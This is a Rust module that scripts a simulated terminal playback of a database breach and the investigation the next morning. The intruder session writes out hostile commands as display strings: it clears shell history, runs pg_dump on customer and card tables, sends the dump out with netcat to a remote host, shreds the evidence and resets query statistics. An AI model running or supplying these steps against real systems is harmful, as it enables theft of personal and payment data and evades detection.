//! The incident's two sessions: the visit, and the morning after.

use super::database::table;
use super::{greet, leave};
use crate::tape::reel::Reel;
use crate::tape::script::Place;

pub(in crate::tape) fn visit(reel: &mut Reel, place: &Place) {
    greet(reel, place);
    reel.enter("unset HISTFILE; id; hostname");
    reel.lines(0, &["uid=114(postgres) gid=121(postgres) groups=121(postgres)", &place.host]);
    reel.show(&place.prompt());
    reel.enter("psql -l | head -7");
    reel.wait(350);
    let rows = [("ledger", "41 GB"), ("shop", "212 GB"), ("postgres", "8 MB")];
    let rows: Vec<Vec<String>> = rows
        .into_iter()
        .map(|(name, size)| vec![name.to_owned(), "postgres".to_owned(), size.to_owned()])
        .collect();
    table(reel, &["Name", "Owner", "Size"], &rows);
    reel.show(&place.prompt());
    reel.enter("psql shop -c \"select count(*) from customers\"");
    reel.wait(1900);
    table(reel, &["count"], &[vec!["1284113".to_owned()]]);
    reel.show(&place.prompt());
    reel.enter("mkdir -p /var/tmp/.cache && cd /var/tmp/.cache");
    let prompt = place.prompt().replace('~', "/var/tmp/.cache");
    reel.show(&prompt);
    reel.enter("pg_dump -t customers -t cards shop | gzip -1 > c.gz &");
    reel.lines(0, &["[1] 48213"]);
    reel.show(&prompt);
    for size in ["604M", "1.7G", "2.9G", "3.8G"] {
        reel.enter("ls -lh c.gz");
        reel.lines(
            0,
            &[&format!(
                "-rw-r--r-- 1 postgres postgres {size} {} {} c.gz",
                place.date,
                &place.time(reel.millis())[..5]
            )],
        );
        reel.show(&prompt);
        reel.wait(34_000);
    }
    reel.lines(0, &["", "[1]+  Done                    pg_dump -t customers -t cards shop | gzip -1 > c.gz"]);
    reel.show(&prompt);
    reel.until(322_000);
    reel.enter(&format!("nc -N {} 4444 < c.gz", place.from));
    reel.until(1_146_000);
    reel.show(&prompt);
    reel.enter("shred -u c.gz; cd; rm -rf /var/tmp/.cache");
    reel.wait(9000);
    reel.show(&place.prompt());
    reel.enter("psql shop -c \"select pg_stat_statements_reset()\"");
    reel.wait(300);
    table(reel, &["pg_stat_statements_reset"], &[vec![String::new()]]);
    reel.show(&place.prompt());
    leave(reel);
}

pub(in crate::tape) fn aftermath(reel: &mut Reel, place: &Place) {
    greet(reel, place);
    reel.enter("last -a | head -4");
    reel.lines(
        0,
        &[
            &format!("{:<9} pts/0        {} {}   still logged in", place.account, place.date, place.time(0)),
            "postgres  pts/1        03:27 - 03:46  (00:19)     debian-x1",
            "deploy    pts/0        16:02 - 16:09  (00:07)     mira-mbp",
        ],
    );
    reel.show(&place.prompt());
    reel.enter("sudo ls -la /var/tmp ~postgres/.bash_history");
    reel.lines(
        0,
        &[
            "ls: cannot access '/var/tmp/.cache': No such file or directory",
            "-rw------- 1 postgres postgres 0 /var/lib/postgresql/.bash_history",
        ],
    );
    reel.show(&place.prompt());
    reel.enter("sudo journalctl --since 03:00 --until 04:10 -u postgresql -o cat | tail -3");
    reel.wait(500);
    reel.lines(
        40,
        &[
            "LOG:  duration: 128440.118 ms  statement: COPY public.customers (id, name, email, …) TO stdout;",
            "LOG:  duration: 71207.004 ms  statement: COPY public.cards (customer, token, last4, …) TO stdout;",
            "LOG:  statement: select pg_stat_statements_reset()",
        ],
    );
    reel.show(&place.prompt());
    leave(reel);
}
